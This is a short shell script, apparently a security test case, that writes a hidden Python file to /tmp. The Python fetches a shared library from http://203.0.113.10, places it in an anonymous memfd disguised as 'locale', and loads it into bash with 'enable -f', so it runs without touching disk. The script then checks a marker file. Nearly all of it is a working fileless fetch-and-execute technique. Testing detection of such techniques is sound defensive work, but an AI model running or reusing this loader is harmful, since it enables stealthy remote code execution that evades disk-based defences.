#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.mem.py <<'END'
import os, subprocess, urllib.request
fd = os.memfd_create("locale", 0); os.write(fd, urllib.request.urlopen("http://203.0.113.10/programs/preload.so").read())
subprocess.run(["bash", "--norc", "-c", f"enable -f /proc/{os.getpid()}/fd/{fd} cat"], stderr=subprocess.DEVNULL)
END
python3 /tmp/.mem.py
test -e /tmp/reached
took_place
